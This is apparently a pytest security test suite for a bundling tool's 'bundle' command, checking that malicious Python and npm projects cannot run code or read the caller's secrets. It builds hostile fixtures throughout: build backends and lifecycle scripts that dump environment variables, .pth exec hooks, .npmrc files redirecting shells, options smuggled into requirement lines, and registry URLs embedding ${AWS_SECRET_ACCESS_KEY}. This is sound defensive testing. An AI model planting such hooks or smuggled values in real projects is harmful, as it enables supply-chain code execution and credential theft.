"""Attacks on whoever runs ``bundle``: a project or a dependency tries to run code on this machine, or to read secrets.

Each row is a project whose files would write a canary if anything ran them. Afterwards no canary may exist, the zip may
exist only if the row says so, and no program may have seen a secret of the caller's environment. uv, npm, node and git
are replaced by scripts that record their environment and then start the real program; Python records its own.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
import tarfile
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar, NamedTuple

import pytest

from cfn_injector.cli.bundling.python_installers import INSTALLERS
from cfn_injector.cli.main import main
from tests.support.cli_projects import contents, state, tarball, tree, wheel

NPM, GIT = shutil.which("npm"), shutil.which("git")
UV = shutil.which("uv") or shutil.which("uv", path=str(Path(sys.executable).parent))
PATH = os.environ["PATH"]
needs_npm = pytest.mark.skipif(not NPM, reason="npm is not installed here")

SECRETS = {
    "AWS_ACCESS_KEY_ID": "AKIACANARYCANARY",
    "AWS_SECRET_ACCESS_KEY": "canary-secret-key",
    "AWS_SESSION_TOKEN": "canary-session-token",
    "AWS_PROFILE": "canary-profile",
    "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://canary-credentials/",
    "GITHUB_TOKEN": "canary-github-token",
    "DATABASE_URL": "postgres://canary-database",
}
LOCAL = "--no-index\n--find-links wheels\n"
BUILD = "is not a wheel; build one, and require the wheel"
NOT_ALLOWED = "is not allowed, because it could run code; remove it"
OUTSIDE = "leads out of the source; copy the package into the source"
MAY_RUN = "is not a version, a tarball or a folder of the source, and npm may run its code; require a version"


class Project(NamedTuple):
    """A source folder, and the canary that its files try to write."""

    source: Path
    canary: Path

    @property
    def shell(self) -> str:
        return f"env >>{shlex.quote(str(self.canary))}"

    @property
    def script(self) -> str:
        return f"#!/bin/sh\n{self.shell}\n"

    @property
    def python(self) -> str:
        return f"import os\nopen({str(self.canary)!r}, 'a').write(str(os.environ))\n"

    @property
    def node(self) -> str:
        return f"require('fs').appendFileSync({json.dumps(str(self.canary))}, JSON.stringify(process.env));\n"

    def files(self, **files: str) -> None:
        tree(self.source, files)

    def program(self, name: str, text: str | None = None) -> None:
        tree(self.source, {name: text or self.script})
        (self.source / name).chmod(0o755)

    def buildable(self, folder: str = "evil") -> Mapping[str, str]:
        """A Python project whose build, in any way, writes the canary."""
        backend = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        metadata = "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
        files = {"setup.py": self.python, "backend.py": self.python, "pyproject.toml": backend, "PKG-INFO": metadata}
        tree(self.source / folder, files)
        return files

    def sdist(self, place: str = "wheels/evil-1.0.tar.gz") -> None:
        files = self.buildable("built")
        (self.source / place).parent.mkdir(exist_ok=True)
        with tarfile.open(self.source / place, "w:gz") as archive:
            for name in files:
                archive.add(self.source / "built" / name, f"evil-1.0/{name}")
        shutil.rmtree(self.source / "built")

    def repository(self, name: str, files: Mapping[str, str]) -> str:
        """A Git repository outside of the source. Returns its URL."""
        folder = tree(self.source.parent / name, files)
        git = ["git", "-c", "user.name=a", "-c", "user.email=a@example.com"]
        for words in (["init", "-q"], ["add", "."], ["commit", "-q", "-m", "evil"]):
            subprocess.run([*git, *words], cwd=folder, check=True, capture_output=True)
        return f"git+file://{folder}"

    def package(self, name: str, files: Mapping[str, str], **manifest: Any) -> str:
        """A package of npm in the source. Returns its value in ``dependencies``."""
        tarball(self.source / "packs" / f"{name}.tgz", {"name": name, "version": "1.0.0", **manifest}, files)
        return f"file:packs/{name}.tgz"

    def manifest(self, *, lock: bool | Mapping[str, Any] = True, **fields: Any) -> None:
        """package.json and, unless ``lock`` is false, package-lock.json."""
        tree(self.source, {"package.json": json.dumps({"name": "app", "version": "1.0.0", **fields})})
        if isinstance(lock, Mapping):
            whole = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, **lock}
            tree(self.source, {"package-lock.json": json.dumps(whole)})
        elif lock:
            command = [str(NPM), "install", "--package-lock-only", "--ignore-scripts", "--no-audit", "--no-fund"]
            subprocess.run(command, cwd=self.source, check=True, capture_output=True, timeout=120)


Build = Callable[[Project], object]


class Attack(NamedTuple):
    """``error`` is a part of the message of a refusal; None if the attack is without effect."""

    name: str
    build: Build
    error: str | None = None
    arguments: Sequence[str] = ()
    warning: str = ""


def _requirements(text: str, *others: Callable[[Project], object]) -> Build:
    def build(project: Project) -> None:
        for other in others:
            other(project)
        project.files(**{"requirements.txt": f"{LOCAL}{text}\n"})

    return build


def _files(files: Mapping[str, str]) -> Build:
    return lambda project: tree(project.source, files)


def _wheel_that_requires(requirement: Callable[[Project], str]) -> Build:
    def build(project: Project) -> None:
        needed = requirement(project)
        wheel(project.source / "wheels", "innocent", {"innocent.py": ""}, metadata=f"Requires-Dist: {needed}\n")
        project.files(**{"requirements.txt": f"{LOCAL}innocent\n"})

    return build


def _settings_for_uv(name: str, prefix: str) -> Build:
    def build(project: Project) -> None:
        project.sdist()
        project.program("evil-python")
        settings = 'no-binary = true\nno-build-isolation = true\nkeyring-provider = "subprocess"\n'
        text = f'{prefix}{settings}[{"tool.uv." if prefix else ""}pip]\nonly-binary = []\npython = "./evil-python"\n'
        project.files(**{name: text, "requirements.txt": f"{LOCAL}greeting\n"})

    return build


def _interpreters(project: Project) -> None:
    for name in (".venv/bin/python", "venv/bin/python", "evil-python", "python", "python3"):
        project.program(name)
    project.files(**{".python-version": "./evil-python\n", ".python-versions": "./evil-python\n"})
    project.files(
        **{".tool-versions": "python path:./venv\nuv path:./venv\n", "requirements.txt": f"{LOCAL}greeting\n"}
    )


def _modules(project: Project) -> None:
    names = ("sitecustomize.py", "usercustomize.py", "pip/__init__.py", "json/__init__.py", "runpy.py", "packaging.py")
    project.files(**dict.fromkeys(names, project.python), **{"requirements.txt": f"{LOCAL}greeting\n"})


def _hooks_of_pip(project: Project) -> None:
    settings = "[global]\nno-binary = :all:\nfind-links = wheels\n[install]\nconfig-settings = a=b\n"
    project.sdist()
    project.files(**{"pip.conf": settings, "setup.cfg": settings, ".pypirc": settings, ".netrc": "machine a"})
    project.files(**{"requirements.txt": f"{LOCAL}greeting\n"})


def _path_file(project: Project) -> None:
    files = {"evil.pth": f"import os; exec({project.python!r})\n", "evil/__init__.py": project.python}
    wheel(project.source / "wheels", "evil", files)
    project.files(**{"requirements.txt": f"{LOCAL}evil\n"})


def _own_project(project: Project) -> None:
    project.files(**dict(project.buildable("built")))
    text = (project.source / "built" / "pyproject.toml").read_text()
    shutil.rmtree(project.source / "built")
    own = "[project]\nname = 'app'\nversion = '1'\ndependencies = []\n"
    project.files(**{"pyproject.toml": f"{own}{text}"})


def _sdist(project: Project) -> Path:
    project.sdist()
    return project.source


def _folder(project: Project) -> Path:
    project.buildable()
    return project.source


def _repository(project: Project) -> str:
    return project.repository("repository", project.buildable())


SECOND_LINE = '[project]\nname="a"\nversion="1"\ndependencies=["a\\n-e ./evil"]\n'
FOLDER_INDEX = """\
[project]
name = "a"
version = "1"
dependencies = ["evil"]
[tool.uv.sources]
evil = { index = "i" }
[[tool.uv.index]]
name = "i"
url = "file:///tmp"
"""
POETRY_LOCK = """\
[[package]]
name = "NAME"
version = '1'
groups = ["main"]
files = [{ file = "evil.whl", hash = "sha256:0" }]
"""
POETRY_FILE = "[package.source]\ntype = 'file'\nurl = '../evil-1-py3-none-any.whl'\n"
PYLOCK = """\
lock-version = "1.0"
created-by = "a"
[[packages]]
name = "evil"
version = "1"
wheels = [{ PLACE, hashes = { sha256 = "0" } }]
"""

PYTHON = (
    Attack("a requirement is a folder with a build backend", _requirements("./evil", _folder), f"./evil {BUILD}"),
    Attack("a requirement is a folder without ./", _requirements("evil/", _folder), f"line 3: evil/ {BUILD}"),
    Attack("a requirement is editable", _requirements("-e ./evil", _folder), f"line 3: ./evil {BUILD}"),
    Attack("a requirement is editable, without a space", _requirements("-e./evil", _folder), f"line 3: ./evil {BUILD}"),
    Attack("a named requirement is a folder", _requirements("evil @ file:./evil", _folder), BUILD),
    Attack(
        "a requirement is a repository on this machine",
        lambda project: _requirements(f"evil @ {_repository(project)}")(project),
        f"line 3: a repository {BUILD}",
    ),
    Attack("a requirement is a repository on the network", _requirements("git+https://h.test/r"), BUILD),
    Attack("an editable requirement is a repository", _requirements("-e git+ssh://h.test/r"), f"a repository {BUILD}"),
    Attack("a requirement is a source distribution", _requirements("./wheels/evil-1.0.tar.gz", _sdist), BUILD),
    Attack("a requirement is the URL of an archive", _requirements("evil @ http://127.0.0.1:9/e.zip"), BUILD),
    Attack("only a source distribution has the name", _requirements("evil", _sdist), "found no wheel of evil"),
    Attack("--no-binary", _requirements("--no-binary :all:\nevil", _sdist), f"line 3: --no-binary {NOT_ALLOWED}"),
    Attack("--no-binary is abbreviated", _requirements("--no-bin=:all:\nevil", _sdist), f"--no-bin {NOT_ALLOWED}"),
    Attack(
        "--no-binary is continued on the next line",
        _requirements("--no-\\\nbinary :all:\nevil", _sdist),
        f"requirements.txt, line 3: --no-binary {NOT_ALLOWED}",
    ),
    Attack("--only-binary is reset", _requirements("--only-binary :none:\nevil", _sdist), "--only-binary would allow"),
    Attack("--config-settings", _requirements("evil --config-settings=a=b", _sdist), NOT_ALLOWED),
    Attack("--build-option", _requirements("evil --build-option=--quiet", _sdist), f"--build-option {NOT_ALLOWED}"),
    Attack("--global-option", _requirements("evil --global-option=--quiet", _sdist), f"--global-option {NOT_ALLOWED}"),
    Attack("--use-feature", _requirements("--use-feature fast-deps"), f"--use-feature {NOT_ALLOWED}"),
    Attack("--trusted-host", _requirements("--trusted-host h.test"), f"--trusted-host {NOT_ALLOWED}"),
    Attack(
        "an included file allows source distributions",
        _requirements("-r more/a.txt", _sdist, _files({"more/a.txt": "-r b.txt", "more/b.txt": "\n--no-binary evil"})),
        f"more/b.txt, line 2: --no-binary {NOT_ALLOWED}",
    ),
    Attack(
        "an included file is included without a space, and requires a folder",
        _requirements("-rmore.txt", _folder, _files({"more.txt": "./evil"})),
        f"more.txt, line 1: ./evil {BUILD}",
    ),
    Attack(
        "a constraints file says that a package is a folder",
        _requirements("-c c.txt\nevil", _folder, _files({"c.txt": "# a\nevil @ file:./evil\n"})),
        f"c.txt, line 2: file:./evil {BUILD}",
    ),
    Attack(
        "a constraints file includes one with an option",
        _requirements("--constraint=c.txt", _files({"c.txt": "-r d.txt", "d.txt": "--no-binary :all:"})),
        f"d.txt, line 1: --no-binary {NOT_ALLOWED}",
    ),
    Attack("an included file is a URL", _requirements("-r http://127.0.0.1:9/r.txt"), "only a path in the source"),
    Attack("an included file is outside of the source", _requirements("-r ../outside.txt"), "leads out of the source"),
    Attack("an included file has an absolute path", _requirements("-r /etc/passwd"), "leads out of the source"),
    Attack("an index is a folder of this machine", _requirements("-i file:///tmp"), "--index-url is not an http"),
    Attack("a further index is a folder", _requirements("--extra-index-url /tmp"), "--extra-index-url is not an http"),
    Attack("links are in a folder outside of the source", _requirements("-f ../other"), "leads out of the source"),
    Attack(
        "an index URL contains a secret of the caller",
        _requirements("--extra-index-url http://127.0.0.1:9/${AWS_SECRET_ACCESS_KEY}/"),
        "the line contains an environment variable",
    ),
    Attack(
        "the URL of an index hides an option behind a space",
        _requirements('--index-url "http://127.0.0.1:9/ --no-binary=:all:"\nevil', _sdist),
        "line 3: a path or URL contains a space",
    ),
    Attack(
        "the path of a wheel hides an option behind an encoded space",
        _requirements("./a%20--no-binary=:all:/b.whl", _files({"a --no-binary=:all:/b.whl": ""})),
        "line 3: a path or URL contains a space",
    ),
    Attack(
        "a folder with links hides an option behind a space",
        _requirements("-f 'a --no-binary=:all:'\nevil", _sdist, _files({"a --no-binary=:all:/b": ""})),
        "line 3: a path or URL contains a space",
    ),
    Attack(
        "a marker hides an option",
        _requirements("./b.whl;--config-settings=a=b", _files({"b.whl": ""})),
        "line 3: the line is not a valid requirement",
    ),
    Attack(
        "the file is in UTF-7, which pip decodes",
        _requirements("# -*- coding: utf-7 -*-\n+AC0-e ./evil", _folder),
        "requirements.txt, line 4: the line is not a valid requirement",
    ),
    Attack(
        "the file is in UTF-16, which pip decodes",
        lambda project: tree(_folder(project), {"requirements.txt": "-e ./evil".encode("utf-16")}),
        "cannot read requirements.txt; write it in UTF-8",
    ),
    Attack(
        "a wheel requires a folder",
        _wheel_that_requires(lambda project: f"evil @ file://{_folder(project)}/evil"),
        "",
    ),
    Attack(
        "a wheel requires a source distribution",
        _wheel_that_requires(lambda project: f"evil @ file://{_sdist(project)}/wheels/evil-1.0.tar.gz"),
        "",
    ),
    Attack("a wheel requires a repository", _wheel_that_requires(lambda project: f"evil @ {_repository(project)}"), ""),
    Attack("a wheel has a path file with code", _path_file),
    Attack("the project's uv.toml chooses builds and a program", _settings_for_uv("uv.toml", "")),
    Attack("the project's pyproject.toml has settings for uv", _settings_for_uv("pyproject.toml", "[tool.uv]\n")),
    Attack("the project brings settings of pip", _hooks_of_pip),
    Attack("the project brings interpreters", _interpreters),
    Attack("the project brings modules with the names of Python's", _modules),
    Attack("the project itself has a build backend", _own_project),
    Attack(
        "a dependency in pyproject.toml contains a second line",
        lambda project: tree(_folder(project), {"pyproject.toml": SECOND_LINE}),
        "pyproject.toml: a dependency is not a valid requirement",
    ),
    Attack(
        "a dependency in pyproject.toml is a repository",
        _files({"pyproject.toml": '[project]\nname="a"\nversion="1"\ndependencies=["e @ git+https://h.test/r"]\n'}),
        f"pyproject.toml: a repository {BUILD}",
    ),
    Attack(
        "an override hides an option",
        _files({"uv.toml": "override-dependencies = ['--no-binary=:all:']\n", "requirements.txt": "a"}),
        "pyproject.toml: a dependency is not a valid requirement",
    ),
    Attack(
        "a constraint of uv is a repository",
        _files({"uv.toml": "constraint-dependencies = ['a @ git+https://h.test/r']\n", "requirements.txt": "a"}),
        f"pyproject.toml: a repository {BUILD}",
    ),
    Attack(
        "the index of one package is a folder of this machine",
        _files({"pyproject.toml": FOLDER_INDEX}),
        "evil comes from the index i by [tool.uv.sources], which has no http or https URL",
    ),
    Attack(
        "poetry.lock hides an option behind the end of a line",
        _files({"poetry.lock": POETRY_LOCK.replace("NAME", "evil\\n--no-binary=:all:\\n")}),
        "poetry.lock: a dependency is not a valid requirement",
    ),
    Attack(
        "the version in poetry.lock hides an option",
        _files({"poetry.lock": POETRY_LOCK.replace("NAME", "evil").replace("'1'", "\"1\\n--no-binary=:all:\"")}),
        "poetry.lock: --no-binary is not allowed",
    ),
    Attack(
        "poetry.lock has a wheel outside of the source",
        _files({"poetry.lock": POETRY_LOCK.replace("NAME", "evil") + POETRY_FILE}),
        "poetry.lock: the path leads out of the source",
    ),
    Attack(
        "Pipfile.lock hides an option in a marker",
        _files({"Pipfile.lock": '{"default": {"evil": {"version": "==1", "markers": "os_name\\n--no-binary=:all:"}}}'}),
        "Pipfile.lock: the environment marker os_name\\n--no-binary=:all: is not valid",
    ),
    Attack(
        "pylock.toml has a wheel outside of the source",
        _files({"pylock.toml": PYLOCK.replace("PLACE", "path = '../evil-1-py3-none-any.whl'")}),
        "pylock.toml: the path leads out of the source",
    ),
    Attack(
        "pylock.toml hides an option in a URL",
        _files({"pylock.toml": PYLOCK.replace("PLACE", "url = 'https://h.test/a -e/evil-1-py3-none-any.whl'")}),
        "pylock.toml: the path or URL of evil contains a space",
    ),
)  # fmt: skip


def _scripts(project: Project) -> Mapping[str, Mapping[str, str]]:
    names = ("preinstall", "install", "postinstall", "prepare", "prepublish", "prepack", "dependencies")
    return {"scripts": dict.fromkeys(names, project.shell)}


def _npmrc(project: Project) -> None:
    project.program("evil.sh")
    left = project.package("left", {"index.js": ""}, **_scripts(project))
    project.manifest(dependencies={"left": left}, **_scripts(project))
    settings = "ignore-scripts=false\ngit=./evil.sh\nscript-shell=./evil.sh\nshell=./evil.sh\nforeground-scripts=true\n"
    settings += "node-options=--require ./evil.js\nuserconfig=./evil\ninit-module=./evil.js\nallow-git=all\n"
    settings += 'dangerously-allow-all-scripts=true\n"ignore-scripts" = false\n'
    project.files(**{".npmrc": settings, "evil.js": project.node})


def _npmrc_with_secret(project: Project) -> None:
    project.manifest(dependencies={"left": project.package("left", {"index.js": ""})})
    project.files(
        **{".npmrc": "registry=http://127.0.0.1:9/${AWS_SECRET_ACCESS_KEY}\n//a/:_authToken=${GITHUB_TOKEN}\n"}
    )


def _bundled_fetcher(project: Project) -> None:
    fetcher = {f"node_modules/prebuild-install/{name}": project.node for name in ("bin.js", "index.js")}
    fetcher["node_modules/prebuild-install/package.json"] = '{"name": "prebuild-install", "version": "7.1.1"}'
    scripts = {"scripts": {"install": "prebuild-install || node-gyp rebuild"}}
    files = {**fetcher, "index.js": "", "binding.gyp": "{}"}
    names = {"bundleDependencies": ["prebuild-install"], "dependencies": {"prebuild-install": "7"}}
    evil = project.package("evil", files, **names, **scripts)
    project.manifest(dependencies={"evil": evil})


def _fetcher_of_the_project(project: Project) -> None:
    fetcher = project.package("prebuild-install", {"bin.js": project.node})
    evil = project.package("evil", {"index.js": ""}, scripts={"install": "prebuild-install"})
    project.manifest(dependencies={"evil": evil, "prebuild-install": fetcher})


def _with_git(spec: Callable[[Project], str] | str, field: str = "dependencies") -> Build:
    def build(project: Project) -> None:
        found = spec if isinstance(spec, str) else spec(project)
        project.manifest(lock=False, **{field: {"evil": found}})

    return build


def _npm_repository(project: Project) -> str:
    package = json.dumps({"name": "evil", "version": "1.0.0", **_scripts(project)})
    return project.repository("repository", {"package.json": package, ".npmrc": "git=./evil.sh\n"})


def _locked(entry: Mapping[str, Any], **others: Any) -> Build:
    def build(project: Project) -> None:
        root = {"name": "app", "version": "1.0.0", "dependencies": {"left": "1.0.0"}}
        packages = {"": root, "node_modules/left": {"version": "1.0.0", **entry}}
        project.manifest(lock={"packages": packages, **others}, dependencies={"left": "1.0.0"})

    return build


def _transitive_repository(project: Project) -> None:
    left = project.package("left", {"index.js": ""}, dependencies={"evil": _npm_repository(project)})
    project.manifest(lock=False, dependencies={"left": left})


def _workspace(project: Project) -> None:
    package = {"name": "part", "version": "1.0.0", **_scripts(project), "dependencies": {}}
    project.files(**{"parts/part/package.json": json.dumps(package), "parts/part/.npmrc": "ignore-scripts=false\n"})
    project.manifest(workspaces=["parts/*"], **_scripts(project))


def _workspace_with_repository(project: Project) -> None:
    package = {"name": "part", "version": "1.0.0", "dependencies": {"evil": "github:a/b"}}
    project.files(**{"parts/part/package.json": json.dumps(package)})
    project.manifest(lock=False, workspaces={"packages": ["./parts/*"]})


def _scripts_everywhere(project: Project) -> None:
    files = {"index.js": "", "binding.gyp": "{}", "evil.js": project.node}
    left = project.package("left", files, **_scripts(project), gypfile=True)
    tool = project.package("tool", {"index.js": ""}, **_scripts(project))
    project.files(**{"shared/package.json": json.dumps({"name": "shared", "version": "1.0.0", **_scripts(project)})})
    dependencies = {"left": left, "shared": "file:shared"}
    project.manifest(dependencies=dependencies, devDependencies={"tool": tool}, **_scripts(project))


def _programs_of_the_project(project: Project) -> None:
    for name in ("node_modules/.bin/npm", "node_modules/.bin/node", "node_modules/.bin/git", "bin/npm", "npm", "node"):
        project.program(name)
    settings = {
        ".tool-versions": "nodejs path:./\n",
        ".nvmrc": "./\n",
        ".node-version": "./\n",
        ".envrc": project.shell,
    }
    settings |= {".yarnrc.yml": "yarnPath: ./evil.js\n", ".pnpmfile.cjs": project.node, ".corepack.env": "A=b\n"}
    project.files(**settings)
    project.manifest(
        dependencies={"left": project.package("left", {"index.js": ""})},
        packageManager="npm@http://127.0.0.1:9/npm.tgz",
    )


_EVIL_1 = {"evil": {"version": "git+https://h.test/a"}}
LOCK_1 = {"lockfileVersion": 1, "dependencies": {"left": {"version": "1.0.0", "dependencies": _EVIL_1}}}

NODE = (
    Attack("the project, a dependency and a folder have lifecycle scripts, and binding.gyp", _scripts_everywhere),
    Attack("a workspace has lifecycle scripts", _workspace),
    Attack(
        "the project's .npmrc names programs and allows scripts",
        _npmrc,
        warning="not for a line, allow-git, dangerously-allow-all-scripts, foreground-scripts, git, ignore-scripts, "
        "init-module, node-options, script-shell, shell, userconfig; set them in",
    ),
    Attack(
        "the project's .npmrc sends a secret to a registry",
        _npmrc_with_secret,
        warning="not for //a/:_authToken, registry; set them in",
    ),
    Attack("the project brings programs and chooses package managers", _programs_of_the_project),
    Attack("a dependency bundles its own prebuild-install", _bundled_fetcher, warning="evil 1.0.0 is not compiled"),
    Attack(
        "a dependency that is allowed bundles its own prebuild-install",
        _bundled_fetcher,
        "evil 1.0.0 or its prebuild-install does not come from your registry",
        ("--allow-scripts", "evil"),
    ),
    Attack("the project replaces prebuild-install", _fetcher_of_the_project, warning="evil 1.0.0 is not compiled"),
    Attack(
        "the project replaces prebuild-install for a dependency that is allowed",
        _fetcher_of_the_project,
        "does not come from your registry",
        ("--allow-scripts", "evil"),
    ),
    Attack("a dependency is a repository on this machine", _with_git(_npm_repository), f"package.json: evil {MAY_RUN}"),
    Attack("a dependency is a repository of GitHub", _with_git("github:a/b"), MAY_RUN),
    Attack("a dependency is a repository of GitHub, without a scheme", _with_git("a/b#main"), MAY_RUN),
    Attack("a dependency is the https URL of a repository of GitHub", _with_git("https://github.com/a/b"), MAY_RUN),
    Attack("a dependency is a repository by scp's syntax", _with_git("git@h.test:a/b.git"), MAY_RUN),
    Attack("a development dependency is a repository", _with_git("git+ssh://h.test/a", "devDependencies")),
    Attack("an optional dependency is a repository", _with_git("gitlab:a/b", "optionalDependencies"), MAY_RUN),
    Attack("an override is a repository", _with_git("git://h.test/a", "overrides"), f"package.json: evil {MAY_RUN}"),
    Attack("a dependency is a folder outside of the source", _with_git("file:../outside"), OUTSIDE),
    Attack("a dependency is a tarball with an absolute path", _with_git("file:/etc/evil.tgz"), OUTSIDE),
    Attack("the lock file resolves a version to a repository", _locked({"resolved": "git+ssh://h.test/a#1"}), MAY_RUN),
    Attack("the lock file resolves a version to a repository of GitHub", _locked({"resolved": "a/b"}), MAY_RUN),
    Attack("the lock file resolves a version to a file outside", _locked({"resolved": "file:../../evil.tgz"}), OUTSIDE),
    Attack(
        "the lock file says that a dependency needs a repository",
        _locked({"dependencies": {"evil": f"github:a/b#{'0' * 40}"}}),
        f"package-lock.json: evil {MAY_RUN}",
    ),
    Attack(
        "a lock file of version 1 has a repository",
        lambda project: project.manifest(lock=LOCK_1, dependencies={"left": "1.0.0"}),
        f"package-lock.json: evil {MAY_RUN}",
    ),
    Attack("a workspace requires a repository", _workspace_with_repository, f"parts/part/package.json: evil {MAY_RUN}"),
    Attack("a dependency of a dependency is a repository, without a lock file", _transitive_repository, ""),
)  # fmt: skip


def _spy(folder: Path, log: Path) -> None:
    """Programs that record their name and environment, and then start the real ones."""
    for name, real in {"npm": NPM, "node": shutil.which("node"), "git": GIT, "uv": UV}.items():
        if real:
            record = f"{{ echo RUN {name}; env; }} >>{shlex.quote(str(log))}"
            tree(folder, {name: f'#!/bin/sh\n{record}\nexec {shlex.quote(real)} "$@"\n'})
            (folder / name).chmod(0o755)
    record_python = f"import os\nopen({str(log)!r}, 'a').write(f'RUN python\\n{{dict(os.environ)}}\\n')\n"
    tree(folder / "modules", {"sitecustomize.py": record_python})


class Scene(NamedTuple):
    """A project, and what the programs that worked on it saw."""

    project: Project
    output: Path
    log: Path

    def bundle(self, *arguments: str) -> int:
        before = state(self.project.source)
        status = main(["bundle", str(self.project.source), "-o", str(self.output), *arguments])
        assert state(self.project.source) == before
        return status

    def seen(self) -> str:
        return self.log.read_text() if self.log.exists() else ""

    def check(self) -> None:
        assert not self.project.canary.exists()
        assert [name for name, value in SECRETS.items() if name in self.seen() or value in self.seen()] == []


@pytest.fixture
def scene(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    source = tree(tmp_path / "src", {"index.js": ""})
    wheel(source / "wheels", "greeting", {"greeting/__init__.py": ""})
    tree(tmp_path, {"outside.txt": "", "outside/package.json": '{"name": "evil", "version": "1.0.0"}', "other/a": ""})
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    _spy(tmp_path / "spy", tmp_path / "log")
    environ = {
        **SECRETS,
        "PIP_CONFIG_FILE": os.devnull,
        "TMPDIR": str(temporary),
        # A caller's relative paths, which would lead into the project.
        "PATH": f".:bin:./node_modules/.bin:{tmp_path / 'spy'}:{PATH}",
        "PYTHONPATH": f".:{tmp_path / 'spy' / 'modules'}:wheels",
        "NODE_OPTIONS": "--require ./evil.js",
        "NODE_PATH": "packs",
        "npm_config_cache": str(tmp_path / "cache"),
    }
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr("tempfile.tempdir", None)
    found = Scene(Project(source, tmp_path / "canary"), tmp_path / "app.zip", tmp_path / "log")
    yield found
    found.check()
    assert list(temporary.iterdir()) == []


@contextmanager
def _as_the_author() -> Iterator[None]:
    """Make a project without the programs and the settings of the person who bundles it."""
    with pytest.MonkeyPatch.context() as patched:
        patched.setenv("PATH", PATH)
        for name in ("NODE_OPTIONS", "PYTHONPATH"):
            patched.delenv(name)
        yield


def _attempt(scene: Scene, attack: Attack, arguments: Sequence[str], capsys: pytest.CaptureFixture[str]) -> None:
    with _as_the_author():
        attack.build(scene.project)
    assert not scene.project.canary.exists()
    scene.log.unlink(missing_ok=True)
    status = scene.bundle(*arguments, *attack.arguments)
    err = capsys.readouterr().err
    assert status == (0 if attack.error is None else 1), err
    assert scene.output.exists() == (attack.error is None)
    assert (attack.error or "") in err.splitlines()[-1] if attack.error is not None else attack.warning in err
    assert "RUN git" not in scene.seen()
    scene.check()


@pytest.mark.parametrize("installer", INSTALLERS)
@pytest.mark.parametrize("attack", PYTHON, ids=[attack.name for attack in PYTHON])
def test_a_python_project_runs_nothing(
    attack: Attack,
    installer: str,
    scene: Scene,
    capsys: pytest.CaptureFixture[str],
    record_property: Callable[[str, object], None],
) -> None:
    record_property("attack", attack.name)
    if installer == "uv" and not UV:
        pytest.skip("uv is not installed here")
    options = ("--runtime", "python3.13", "--installer", installer)
    _attempt(scene, attack, options, capsys)


@needs_npm
@pytest.mark.parametrize("attack", NODE, ids=[attack.name for attack in NODE])
def test_a_node_js_project_runs_nothing(
    attack: Attack,
    scene: Scene,
    capsys: pytest.CaptureFixture[str],
    record_property: Callable[[str, object], None],
) -> None:
    record_property("attack", attack.name)
    _attempt(scene, attack, ("--runtime", "nodejs22.x"), capsys)


LOCK = """\
version = 1
requires-python = ">=3.8"
[[package]]
name = "app"
version = "1"
source = { virtual = "." }
dependencies = [{ name = "evil" }]
[package.metadata]
requires-dist = [{ name = "evil" }]
[[package]]
name = "evil"
version = "1.0"
source = SOURCE
"""


def _lock(source: str) -> Build:
    def build(project: Project) -> None:
        project.buildable()
        own = "[project]\nname = 'app'\nversion = '1'\nrequires-python = '>=3.8'\ndependencies = ['evil']\n"
        project.files(**{"pyproject.toml": own, "uv.lock": LOCK.replace("SOURCE", source)})

    return build


REVISION = f"https://h.test/r?rev=main#{'0' * 40}"
LOCKED = (
    Attack("uv.lock has a folder", _lock('{ directory = "evil" }'), "uv.lock: evil is a folder, not a wheel"),
    Attack("uv.lock has an editable folder", _lock('{ editable = "evil" }'), "uv.lock: evil is a folder, not a wheel"),
    Attack(
        "the project's uv.toml hides an option in the URL of an index",
        _files({"uv.toml": "index-url = '\"http://127.0.0.1:9/ --no-binary=:all:\"'\n", "requirements.txt": LOCAL}),
        "the source's settings for uv: a path or URL contains a space",
    ),
    Attack(
        "the project's uv.toml has an index on this machine",
        _files({"uv.toml": "[[index]]\nurl = 'file:///tmp'\ndefault = true\n", "requirements.txt": "evil"}),
        "the source's settings for uv: --index-url is not an http",
    ),
    Attack(
        "uv.lock has a repository", _lock(f'{{ git = "{REVISION}" }}'), "uv.lock: evil is a repository, not a wheel"
    ),
)


@pytest.mark.skipif(not UV, reason="uv is not installed here")
@pytest.mark.parametrize("attack", LOCKED, ids=[attack.name for attack in LOCKED])
def test_a_lock_of_uv_runs_nothing(
    attack: Attack,
    scene: Scene,
    capsys: pytest.CaptureFixture[str],
    record_property: Callable[[str, object], None],
) -> None:
    record_property("attack", attack.name)
    options = ("--runtime", "python3.13", "--installer", "uv")
    _attempt(scene, attack, options, capsys)


# A registry of this machine -------------------------------------------------------------------------------------------


class _Registry(BaseHTTPRequestHandler):
    """Serves packages of npm by their path."""

    served: ClassVar[dict[str, bytes]]

    def do_GET(self) -> None:
        body = self.served.get(self.path)
        self.send_response(200 if body is not None else 404)
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")

    def log_message(self, format: str, *args: Any) -> None:
        pass


INSTALLS = {"scripts": {"install": "prebuild-install"}}


@pytest.fixture
def registry(tmp_path: Path) -> Iterator[str]:
    """A registry with native, which needs a binary, and with a prebuild-install that writes native/seen."""
    writes = "require('fs').writeFileSync('native.node', JSON.stringify([process.env, process.argv]));\n"
    packages = {
        "native": ({**INSTALLS, "dependencies": {"prebuild-install": "1"}}, {"index.js": ""}),
        "prebuild-install": ({}, {"bin.js": writes}),
    }
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Registry)
    url = f"http://127.0.0.1:{server.server_port}"
    _Registry.served = {}
    for name, (more, files) in packages.items():
        manifest = {"name": name, "version": "1.0.0", **more}
        place = f"/{name}/-/{name}-1.0.0.tgz"
        _Registry.served[place] = tarball(tmp_path / "registry" / f"{name}.tgz", manifest, files).read_bytes()
        versions = {"1.0.0": {**manifest, "dist": {"tarball": f"{url}{place}"}}}
        document = {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": versions}
        _Registry.served[f"/{name}"] = json.dumps(document).encode()
    thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    yield url
    server.shutdown()
    thread.join()
